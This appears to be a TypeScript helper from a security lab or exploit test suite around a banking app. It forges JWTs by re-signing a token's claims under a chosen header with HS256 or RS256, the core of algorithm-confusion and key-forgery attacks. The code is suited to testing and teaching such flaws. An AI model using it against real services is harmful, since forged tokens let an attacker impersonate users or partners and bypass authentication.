import { createHmac, type KeyObject, sign } from 'node:crypto';
import { encodeBase64Url } from './sign-jwt.js';

/**
 * The claims of `token` under a new `header`, signed as an attacker would: HS256 with `key` as HMAC secret when
 * it is a string or bytes, RS256 when it is a private key. For exploits; the bank never calls it.
 */
export function forgePartnerToken(
  token: string,
  header: Readonly<Record<string, unknown>>,
  key: string | Buffer | KeyObject,
): string {
  const claims = token.split('.')[1]!;
  const input = `${encodeBase64Url(header)}.${claims}`;
  const signature =
    typeof key === 'string' || Buffer.isBuffer(key)
      ? createHmac('sha256', key).update(input).digest()
      : sign('sha256', Buffer.from(input), key);
  return `${input}.${signature.toString('base64url')}`;
}
